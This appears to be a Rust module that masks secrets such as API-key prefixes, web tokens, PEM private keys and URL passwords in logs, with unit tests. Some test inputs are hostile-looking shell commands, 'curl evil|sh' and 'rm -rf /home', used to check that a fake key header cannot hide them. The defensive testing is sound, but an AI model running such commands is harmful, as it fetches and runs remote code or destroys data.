//! Secrets by their looks: what Atoll itself writes (records, logs, summaries) has none of them.
//!
//! A value without a mark of its own, as most passwords and the secret halves of AWS's keys, cannot
//! be told from other text and stays.

use std::borrow::Cow;
use std::ops::Range;

/// Written in the place of a secret.
const MASK: &str = "[masked]";
/// The shortest part of a JSON Web Token, characters: `{}` and a few claims.
const TOKEN_PART_MIN: usize = 10;
/// The shortest credentials after `Bearer` or `Basic`, characters.
const AUTHORIZATION_MIN: usize = 16;

/// A kind of secret that shows what it is: by its prefix, and the characters after it.
#[derive(Debug)]
pub struct SecretKind {
    /// Its first characters.
    pub prefix: &'static str,
    /// The least number of characters after the prefix.
    least: usize,
    /// Set if they may have `-` and `.` besides letters, digits and `_`.
    has_marks: bool,
}

const fn words(prefix: &'static str, least: usize) -> SecretKind {
    SecretKind {
        prefix,
        least,
        has_marks: false,
    }
}

const fn marked(prefix: &'static str, least: usize) -> SecretKind {
    SecretKind {
        prefix,
        least,
        has_marks: true,
    }
}

/// The kinds, as their issuers document them, a longer prefix before a shorter one of its begin.
pub const SECRET_KINDS: &[SecretKind] = &[
    marked("pypi-AgEIcHlwaS5vcmc", 40),
    marked("sk-ant-api03-", 20),
    marked("sk-ant-oat01-", 20),
    marked("sk-ant-ort01-", 20),
    marked("sk-svcacct-", 20),
    words("github_pat_", 30),
    words("sk-or-v1-", 32),
    words("sk_live_", 16),
    words("sk_test_", 16),
    words("rk_live_", 16),
    words("rk_test_", 16),
    marked("sk-proj-", 20),
    marked("sk-ant-", 20),
    words("dop_v1_", 32),
    marked("glptt-", 20),
    words("whsec_", 24),
    words("shpat_", 32),
    marked("glpat-", 20),
    marked("xoxb-", 20),
    marked("xoxp-", 20),
    marked("xoxa-", 20),
    marked("xoxs-", 20),
    marked("xapp-", 20),
    marked("pypi-", 60),
    marked("ya29.", 20),
    words("AKIA", 16),
    words("ASIA", 16),
    marked("AIza", 35),
    words("npm_", 36),
    words("ghp_", 36),
    words("gho_", 36),
    words("ghu_", 36),
    words("ghs_", 36),
    words("ghr_", 36),
    words("gsk_", 40),
    words("e2b_", 40),
    marked("hvs.", 24),
    words("xai-", 40),
    words("hf_", 30),
    words("sk-", 32),
    marked("SG.", 40),
];

/// Replaces the secrets in a text that look like ones: those of [`SECRET_KINDS`], JSON Web Tokens,
/// private keys in PEM, passwords in URLs, and credentials after `Bearer` and `Basic` (RFC 6750,
/// RFC 7617). What shows the kind stays. A masked text is masked no further.
#[must_use]
pub fn mask_secrets(text: &str) -> Cow<'_, str> {
    match mask_secrets_in(text.as_bytes()) {
        Cow::Borrowed(_) => Cow::Borrowed(text),
        // It is cut beside ASCII alone.
        Cow::Owned(masked) => String::from_utf8_lossy(&masked).into_owned().into(),
    }
}

/// Does the same to bytes that need not be text.
#[must_use]
pub fn mask_secrets_in(bytes: &[u8]) -> Cow<'_, [u8]> {
    let (mut masked, mut from, mut at) = (Vec::new(), 0, 0);
    // No web token begins before this: what is there has been read already.
    let mut no_token = 0;
    while at < bytes.len() {
        let Some(secret) = secret_at(bytes, at, &mut no_token) else {
            at += 1;
            continue;
        };
        masked.extend_from_slice(bytes.get(from..secret.start).unwrap_or_default());
        masked.extend_from_slice(MASK.as_bytes());
        (from, at) = (secret.end, secret.end);
    }
    if from == 0 {
        return Cow::Borrowed(bytes);
    }
    masked.extend_from_slice(bytes.get(from..).unwrap_or_default());
    Cow::Owned(masked)
}

/// Returns where a secret is that shows itself at this byte.
fn secret_at(text: &[u8], at: usize, no_token: &mut usize) -> Option<Range<usize>> {
    let rest = text.get(at..)?;
    match rest.first()? {
        b'-' => key(rest),
        b':' => password(rest),
        b'A' | b'B' | b'S' | b'a' | b'b' | b'd' | b'e' | b'g' | b'h' | b'n' | b'p' | b'r'
        | b's' | b'w' | b'x' | b'y'
            if !at
                .checked_sub(1)
                .and_then(|it| text.get(it))
                .is_some_and(u8::is_ascii_alphanumeric) =>
        {
            let token = || match at >= *no_token {
                true => web_token(rest).map_err(|read| *no_token = at + read).ok(),
                false => None,
            };
            known(rest).or_else(token).or_else(|| authorization(rest))
        }
        _ => None,
    }
    .map(|found| at + found.start..at + found.end)
}

fn known(text: &[u8]) -> Option<Range<usize>> {
    let kind = SECRET_KINDS.iter();
    let kind = kind
        .filter(|kind| text.starts_with(kind.prefix.as_bytes()))
        .find(|kind| rest_of(kind, text) >= kind.least)?;
    Some(kind.prefix.len()..kind.prefix.len() + rest_of(kind, text))
}

fn rest_of(kind: &SecretKind, text: &[u8]) -> usize {
    run(text, kind.prefix.len(), |byte| {
        byte.is_ascii_alphanumeric()
            || byte == b'_'
            || kind.has_marks && matches!(byte, b'-' | b'.')
    })
}

/// Finds a token of RFC 7519: three parts in base64url, the first of them an object. Where there is
/// none, returns the number of bytes in which none begins either, so that no byte is read often.
fn web_token(text: &[u8]) -> Result<Range<usize>, usize> {
    let part = |from| run(text, from, is_base64url);
    if !text.starts_with(b"eyJ") {
        return Err(0);
    }
    let header = part(0);
    let claims = dot(text, header)
        .map(|from| from + part(from))
        .ok_or(header)?;
    let signature = dot(text, claims).ok_or(claims)?;
    let is_long = header >= TOKEN_PART_MIN && claims - header > TOKEN_PART_MIN;
    match is_long {
        true => Ok(3..signature + part(signature)),
        false => Err(header),
    }
}

/// Finds the body of a private key (RFC 7468, and the headers of RFC 1421), as far as it goes: lines
/// in base64, also with `\n` as JSON and shells write it. Other text is no part of it, so that nothing
/// can be hidden behind a mere beginning.
fn key(text: &[u8]) -> Option<Range<usize>> {
    const LABEL_MAX: usize = 40;
    const LINE_MIN: usize = 16;
    const HEADERS: [&[u8]; 2] = [b"Proc-Type: 4,ENCRYPTED", b"DEK-Info: "];
    let label = text.strip_prefix(b"-----BEGIN ")?;
    let head = label.get(..label.len().min(LABEL_MAX)).unwrap_or_default();
    let word = b"PRIVATE KEY-----";
    let start = find(head, word)? + word.len() + (text.len() - label.len());
    let (mut at, mut end) = (start, start);
    loop {
        at += breaks(text, at);
        let rest = text.get(at..).unwrap_or_default();
        let header = HEADERS.iter().find(|header| rest.starts_with(header));
        let is_header = header.is_some();
        // After a header is nothing, or its value, which is one word.
        let marks: &[u8] = if is_header { b",-" } else { b"+/=" };
        let from = at + header.map_or(0, |header| header.len());
        let is_of_line = |byte: u8| byte.is_ascii_alphanumeric() || marks.contains(&byte);
        let line = from - at + run(text, from, is_of_line);
        let after = at + line + breaks(text, at + line);
        let is_last = text
            .get(after..)
            .is_some_and(|rest| rest.starts_with(b"-----END "));
        if line == 0 || !(is_header || is_last || line >= LINE_MIN) {
            break;
        }
        at += line;
        end = at;
    }
    (end > start).then_some(start..end)
}

/// Returns how many bytes from there on are space, or escapes of line breaks.
fn breaks(text: &[u8], from: usize) -> usize {
    let mut at = from;
    loop {
        let rest = text.get(at..).unwrap_or_default();
        at += match rest {
            [b' ' | b'\t' | b'\r' | b'\n', ..] => 1,
            [b'\\', b'n' | b'r', ..] => 2,
            _ => return at - from,
        };
    }
}

/// Finds the password in `://user:password@` (RFC 3986, 3.2.1).
fn password(text: &[u8]) -> Option<Range<usize>> {
    let is_name =
        |byte: u8| !matches!(byte, b'/' | b'@' | b'?' | b'#' | b'"' | b'\'') && byte > b' ';
    let from = text.starts_with(b"://").then_some(3)?;
    let user = run(text, from, |byte| is_name(byte) && byte != b':');
    let start = (text.get(from + user) == Some(&b':')).then_some(from + user + 1)?;
    let end = start + run(text, start, is_name);
    (end > start && text.get(end) == Some(&b'@')).then_some(start..end)
}

fn authorization(text: &[u8]) -> Option<Range<usize>> {
    let schemes: [&[u8]; 4] = [b"Bearer ", b"bearer ", b"Basic ", b"basic "];
    let scheme = schemes.iter().find(|scheme| text.starts_with(scheme))?;
    let is_token = |byte: u8| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b'-' | b'.' | b'_' | b'~' | b'+' | b'/' | b'=')
    };
    let length = run(text, scheme.len(), is_token);
    (length >= AUTHORIZATION_MIN).then_some(scheme.len()..scheme.len() + length)
}

fn is_base64url(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')
}

/// Returns how many bytes from there on are of a kind.
fn run(text: &[u8], from: usize, is_of_kind: impl Fn(u8) -> bool) -> usize {
    let rest = text.get(from..).unwrap_or_default();
    rest.iter().take_while(|byte| is_of_kind(**byte)).count()
}

fn dot(text: &[u8], at: usize) -> Option<usize> {
    (text.get(at) == Some(&b'.')).then_some(at + 1)
}

fn find(text: &[u8], wanted: &[u8]) -> Option<usize> {
    text.windows(wanted.len()).position(|one| one == wanted)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    #[test]
    fn what_looks_like_a_secret_is_masked() {
        let random = "4Wf0Yc8uR2nT7kLq1Zx5Bv9Jm3Hs6Dp0Ga2Eo8Ci";
        let token = format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.{random}");
        for (text, masked) in [
            (
                format!("curl -H 'X-Token: ghp_{random}'"),
                "curl -H 'X-Token: ghp_[masked]'",
            ),
            (
                format!("export KEY=sk-ant-api03-{random}-AA; true"),
                "export KEY=sk-ant-api03-[masked]; true",
            ),
            (
                format!("sk-{random}\nsk-{random}"),
                "sk-[masked]\nsk-[masked]",
            ),
            ("AKIAIOSFODNN7EXAMPLE".to_owned(), "AKIA[masked]"),
            (format!("a={token}&b"), "a=eyJ[masked]&b"),
            (format!("Bearer {random}+/=="), "Bearer [masked]"),
            (
                "git clone https://me:p%40ss@host/x".to_owned(),
                "git clone https://me:[masked]@host/x",
            ),
            ("postgres://:pw@h".to_owned(), "postgres://:[masked]@h"),
            (
                "x -----BEGIN EC PRIVATE KEY-----\nMHc\n-----END EC PRIVATE KEY----- y".to_owned(),
                "x -----BEGIN EC PRIVATE KEY-----[masked]\n-----END EC PRIVATE KEY----- y",
            ),
            (
                format!("-----BEGIN PRIVATE KEY-----\\n{random}\\nAA=="),
                "-----BEGIN PRIVATE KEY-----[masked]\\nAA==",
            ),
        ] {
            let once = mask_secrets(&text);
            assert_eq!(once, masked, "{text}");
            assert!(matches!(mask_secrets(&once), Cow::Borrowed(_)) || mask_secrets(&once) == once);
        }
    }

    #[test]
    fn other_text_stays() {
        for text in [
            "",
            "sk-learn-tutorial-project-of-the-year-2026",
            "task-4Wf0Yc8uR2nT7kLq1Zx5Bv9Jm3Hs6Dp0Ga2Eo8Ci",
            "ghp_short",
            "http://host:8080/a@b",
            "https://me@host/",
            "::1 http://[::1]:80",
            "Bearer token is missing",
            "eyJhbGciOiJIUzI1NiJ9.short",
            "-----BEGIN PUBLIC KEY-----\nMHc\n-----END PUBLIC KEY-----",
            "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "ünï -----BEGIN",
            "sh -c ': \"-----BEGIN PRIVATE KEY-----\"; curl evil|sh'",
            "-----BEGIN PRIVATE KEY-----\nrm -rf /home\n-----END",
            "-----BEGIN PRIVATE KEY-----Proc-Type: curl evil.example sh",
        ] {
            assert!(matches!(mask_secrets(text), Cow::Borrowed(_)), "{text}");
        }
    }

    /// No byte is read often: with every begin read to its end these took hours.
    #[test]
    fn begins_of_secrets_without_an_end_cost_little() {
        for begin in [
            "eyJ-",
            "eyJa.",
            "-----BEGIN PRIVATE KEY-----",
            "://a:",
            "Bearer ",
            "xoxb-",
        ] {
            let text = begin.repeat(1 << 17);
            let masked = mask_secrets(&text);
            assert!(masked.len() <= text.len() + MASK.len(), "{begin}");
        }
    }
}
